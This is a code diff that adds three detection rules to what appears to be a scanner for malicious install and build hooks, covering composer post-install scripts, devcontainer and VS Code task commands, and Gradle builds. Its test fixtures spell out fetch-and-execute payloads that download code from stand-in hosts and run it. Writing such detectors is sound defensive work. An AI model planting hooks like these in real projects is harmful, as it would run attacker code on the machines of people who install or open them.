@@ -395,5 +395,69 @@ export const installHook: RuleSet = {
       ],
       misses: [at('a.csproj', '<Project><Target Name="B"><Exec Command="npm run build" /></Target></Project>')],
     },
+    {
+      id: id('composer-fetch'),
+      severity: 'critical',
+      why: 'Installing the package fetches a script and runs it.',
+      when: path(
+        /(?:^|\/)composer\.json$/,
+        is(
+          ['php -r'],
+          /php\s+-r\s[^\n]{0,200}(?:copy|file_get_contents|fopen)\((?:\\?["'])https?:[^\n]{0,300}(?:shell_exec|system|exec|eval|passthru|include)/,
+          { after: 600, quoted: true },
+        ),
+      ),
+      matches: [
+        at(
+          'composer.json',
+          `{"scripts": {"post-install-cmd": "php -r \\"copy('http://203.0.113.2/c.txt', '/tmp/c.php'); shell_exec('php /tmp/c.php');\\""}}`,
+          'JSON',
+        ),
+      ],
+      misses: [
+        at('composer.json', `{"scripts": {"post-install-cmd": "php -r \\"copy('.env.example', '.env');\\""}}`, 'JSON'),
+      ],
+    },
+    {
+      id: id('devcontainer'),
+      severity: 'critical',
+      why: 'Opening the folder in an editor evaluates what is fetched.',
+      when: path(
+        /(?:^|\/)\.?devcontainer\.json$|(?:^|\/)\.vscode\/tasks\.json$/,
+        is(
+          ['initializecommand', 'oncreatecommand', 'postcreatecommand', 'poststartcommand', 'folderopen'],
+          /(?:(?:initialize|onCreate|postCreate|postStart)Command|folderOpen)"\s*[:}][^\n]{0,300}(?:fetch\(|curl\s|wget\s|https?:\/\/\d)[^\n]{0,300}(?:eval\(|Function\(|\|\s*(?:ba|z)?sh\b|\|\s*(?:node|python3?))/,
+          { after: 700, quoted: true },
+        ),
+      ),
+      matches: [
+        at(
+          '.devcontainer/devcontainer.json',
+          `{"initializeCommand": "node -e \\"fetch('http://203.0.113.7/j').then(r=>r.text()).then(t=>eval(t))\\""}`,
+          'JSON with Comments',
+        ),
+      ],
+      misses: [
+        at('.devcontainer/devcontainer.json', '{"postCreateCommand": "npm ci && npm run build"}', 'JSON with Comments'),
+      ],
+    },
+    {
+      id: id('gradle-jar'),
+      severity: 'high',
+      why: 'A build that runs an archive of classes which it has just fetched into a folder for leftovers.',
+      when: near(
+        8,
+        is(['.execute()'], /['"](?:java|-jar)['"][^\n]{0,120}\.execute\(\)/, { before: 160 }),
+        is(['new url('], /new URL\(\s*["']https?:/, { after: 60 }),
+      ),
+      matches: [
+        at(
+          'app/build.gradle',
+          "new URL('http://x.example.com/g.jar').withInputStream { i -> dropped.withOutputStream { it << i } }\n['java', '-jar', dropped.path].execute()",
+          'Gradle',
+        ),
+      ],
+      misses: [at('app/build.gradle', "task run(type: Exec) { commandLine 'java', '-jar', jar.path }", 'Gradle')],
+    },
   ],
 }
